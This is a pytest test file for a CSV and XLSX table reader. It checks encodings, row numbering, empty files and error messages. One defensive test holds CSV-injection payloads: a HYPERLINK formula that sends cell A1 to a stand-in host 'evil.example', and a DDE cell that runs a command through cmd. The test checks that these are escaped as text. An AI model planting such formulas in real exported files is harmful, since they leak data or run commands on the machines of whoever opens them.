"""Reading CSV and XLSX into rows of text: encodings, empty files, row numbers as a sheet shows them."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from placelab.core.errors import InputError
from placelab.core.io.tables import Table, read_table

CSV = "id,name,sector\np1,Ann,health\np2,Bo,business\n"


def _write(path: Path, data: str | bytes) -> Path:
    if isinstance(data, str):
        data = data.encode("utf-8")
    path.write_bytes(data)
    return path


def _raises(path: Path) -> InputError:
    with pytest.raises(InputError) as caught:
        read_table(path)
    return caught.value


def test_it_reads_a_csv_with_the_header_as_row_1(tmp_path):
    table = read_table(_write(tmp_path / "people.csv", CSV))

    assert table.file == str(tmp_path / "people.csv")
    assert table.columns == ("id", "name", "sector")
    assert table.rows == (
        (2, {"id": "p1", "name": "Ann", "sector": "health"}),
        (3, {"id": "p2", "name": "Bo", "sector": "business"}),
    )


def test_it_strips_spaces_around_cells_and_header_names(tmp_path):
    table = read_table(_write(tmp_path / "t.csv", " id , name \n p1 ,  Ann Lee \n"))

    assert table.columns == ("id", "name")
    assert table.rows == ((2, {"id": "p1", "name": "Ann Lee"}),)


def test_it_accepts_a_utf8_byte_order_mark(tmp_path):
    table = read_table(_write(tmp_path / "bom.csv", b"\xef\xbb\xbf" + CSV.encode()))

    assert table.columns[0] == "id"  # not "\ufeffid"
    assert table.rows[0][1]["id"] == "p1"


def test_it_keeps_names_with_non_ascii_letters(tmp_path):
    text = "id,name\np1,Zoë Ångström\np2,Łukasz Żółć\np3,Nguyễn Thị\n"
    table = read_table(_write(tmp_path / "names.csv", text))

    assert [cells["name"] for _, cells in table.rows] == [
        "Zoë Ångström",
        "Łukasz Żółć",
        "Nguyễn Thị",
    ]


def test_it_reads_crlf_lines_and_quoted_commas(tmp_path):
    text = 'id,organisation\r\np1,"Council, North"\r\np2,School\r\n'
    table = read_table(_write(tmp_path / "crlf.csv", text))

    assert table.rows == (
        (2, {"id": "p1", "organisation": "Council, North"}),
        (3, {"id": "p2", "organisation": "School"}),
    )


def test_it_skips_blank_lines_but_keeps_counting_them(tmp_path):
    table = read_table(_write(tmp_path / "gaps.csv", "id,name\np1,Ann\n\n,\np4,Dee\n\n\n"))

    assert [row for row, _ in table.rows] == [2, 5]


def test_it_fills_short_rows_with_blanks(tmp_path):
    table = read_table(_write(tmp_path / "short.csv", "id,name,sector\np1\n"))

    assert table.rows == ((2, {"id": "p1", "name": "", "sector": ""}),)


@pytest.mark.parametrize(
    "content",
    [b"", b"\n", b"\xef\xbb\xbf", b" , ,\n"],
    ids=["no-bytes", "one-newline", "only-bom", "blank-header"],
)
def test_it_says_an_empty_file_is_empty(tmp_path, content):
    error = _raises(_write(tmp_path / "people.csv", content))

    assert error.file == str(tmp_path / "people.csv")
    assert (error.row, error.column) == (None, None)
    assert "empty" in error.detail
    assert error.expected == "a header row and data rows"


def test_it_says_a_file_with_only_a_header_has_no_data_rows(tmp_path):
    error = _raises(_write(tmp_path / "ties.csv", "source,target,network,weight\n\n"))

    assert error.file == str(tmp_path / "ties.csv")
    assert (error.row, error.column) == (None, None)
    assert "no data rows" in error.detail


# Latin-1, Windows-1252 and UTF-16 files are read: tests/core/io/test_tables_encodings.py.
# 0x81 is a letter in none of the encodings read.
UNREADABLE = b"id,name\np1,Ann\np2,Jos\x81\np3,Dee\n"


def test_it_names_the_row_of_a_byte_that_no_encoding_reads(tmp_path):
    error = _raises(_write(tmp_path / "people.csv", UNREADABLE))

    assert error.file == str(tmp_path / "people.csv")
    assert error.row == 3
    assert "UTF-8" in error.expected
    assert "(0x81) is not text in UTF-8, Windows-1252 or Latin-1" in error.detail


def test_it_names_the_column_of_a_byte_that_no_encoding_reads(tmp_path):
    data = b"id;name;sector\np1;Ann;health\np2;Jos\x81;health\n"
    error = _raises(_write(tmp_path / "people.csv", data))

    assert (error.row, error.column) == (3, "name")


def test_it_names_the_row_with_more_cells_than_the_header(tmp_path):
    error = _raises(_write(tmp_path / "people.csv", "id,name\np1,Ann\np2,Bo,extra\n"))

    assert error.file == str(tmp_path / "people.csv")
    assert error.row == 3
    assert "3 cells but the header has 2" in error.detail


def test_it_ignores_empty_trailing_cells_beyond_the_header(tmp_path):
    table = read_table(_write(tmp_path / "people.csv", "id,name\np1,Ann,,\n"))

    assert table.rows == ((2, {"id": "p1", "name": "Ann"}),)


def test_it_names_a_column_that_appears_twice_in_the_header(tmp_path):
    error = _raises(_write(tmp_path / "people.csv", "id,name,id\np1,Ann,p2\n"))

    assert (error.file, error.row, error.column) == (str(tmp_path / "people.csv"), 1, "id")
    assert "twice" in error.detail


def test_it_names_a_file_that_does_not_exist(tmp_path):
    error = _raises(tmp_path / "nowhere.csv")

    assert error.file == str(tmp_path / "nowhere.csv")
    assert "no such file" in error.detail


def test_require_names_the_missing_column_at_row_1():
    table = Table("people.csv", ("id", "name"), ((2, {"id": "p1", "name": "Ann"}),))

    with pytest.raises(InputError) as caught:
        table.require(("id", "sector", "name"))

    error = caught.value
    assert (error.file, error.row) == ("people.csv", 1)
    assert "'sector'" in error.detail
    assert error.expected == "a header with id, sector, name"


def test_require_passes_when_every_column_is_there():
    Table("t.csv", ("a", "b"), ((2, {"a": "1", "b": "2"}),)).require(("b", "a"))


# --- XLSX ----------------------------------------------------------------------------------------


def _xlsx(path: Path, rows: list[list[object]]) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


def test_it_reads_the_first_sheet_of_an_xlsx_file_as_text(tmp_path):
    path = _xlsx(
        tmp_path / "people.xlsx",
        [
            ["id", "name", "weight", "responded", "note"],
            ["p1", "Zoë Ångström", 2.0, True, None],
            [None, None, None, None, None],
            [7, "Bo", 1.5, False, "x"],
        ],
    )
    table = read_table(path)

    assert table.file == str(path)
    assert table.columns == ("id", "name", "weight", "responded", "note")
    assert table.rows == (
        (2, {"id": "p1", "name": "Zoë Ångström", "weight": "2", "responded": "True", "note": ""}),
        (4, {"id": "7", "name": "Bo", "weight": "1.5", "responded": "False", "note": "x"}),
    )


def test_it_says_an_empty_xlsx_workbook_is_empty(tmp_path):
    path = tmp_path / "people.xlsx"
    openpyxl.Workbook().save(path)

    error = _raises(path)

    assert (error.file, error.row, error.column) == (str(path), None, None)
    assert "empty" in error.detail


def test_it_names_an_xlsx_file_it_cannot_open(tmp_path):
    path = _write(tmp_path / "people.xlsx", CSV)

    error = _raises(path)

    assert error.file == str(path)
    assert "not a readable XLSX workbook" in error.detail


def test_it_names_the_sheet_row_with_more_cells_than_the_header_in_xlsx(tmp_path):
    path = _xlsx(tmp_path / "people.xlsx", [["id", "name"], ["p1", "Ann"], ["p2", "Bo", "extra"]])

    error = _raises(path)

    assert (error.file, error.row) == (str(path), 3)
    assert "3 cells but the header has 2" in error.detail


# --- formulas in exported cells (CSV injection) -------------------------------------------------

# (A cell starting with a tab or a line break is one too, but read_table strips those spaces.)
ATTACKS = ('=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+SUM(1,2)", "@cmd|' /C calc'!A0",
           "-2+3", "'=quoted already", "''two quotes")  # fmt: skip


def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text_and_read_back_as_it_was(tmp_path):
    import csv

    from placelab.core.io.tables import FORMULA_STARTS, csv_cell

    path = tmp_path / "people.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "name"])
        writer.writerows([f"p{n}", csv_cell(name)] for n, name in enumerate(ATTACKS))
    with path.open(encoding="utf-8", newline="") as handle:
        written = [row[1] for row in list(csv.reader(handle))[1:]]
    assert all(cell[0] not in FORMULA_STARTS for cell in written)  # a spreadsheet shows text
    assert [cells["name"] for _, cells in read_table(path).rows] == list(ATTACKS)


def test_a_name_that_starts_with_an_apostrophe_of_its_own_keeps_it(tmp_path):
    from placelab.core.io.tables import csv_cell

    assert csv_cell("'Ohana Trust") == "'Ohana Trust"
    path = tmp_path / "people.csv"
    path.write_text("id,name\np1,'Ohana Trust\n", encoding="utf-8")
    assert read_table(path).rows[0][1]["name"] == "'Ohana Trust"


@given(st.text(max_size=12))
def test_any_text_reads_back_as_written(text):
    from placelab.core.io.tables import FORMULA_STARTS, _from_csv_cell, csv_cell

    cell = csv_cell(text)
    assert _from_csv_cell(cell) == text
    assert cell[:1] not in FORMULA_STARTS


def test_a_control_character_in_a_cell_is_named_by_row_and_column(tmp_path):
    path = tmp_path / "people.csv"
    path.write_text("id,name\np1,Ann\np2,Bo\x00b\n", encoding="utf-8")
    with pytest.raises(InputError) as raised:
        read_table(path)
    error = raised.value
    assert (error.row, error.column) == (3, "name")
    assert "control character (U+0000)" in str(error)
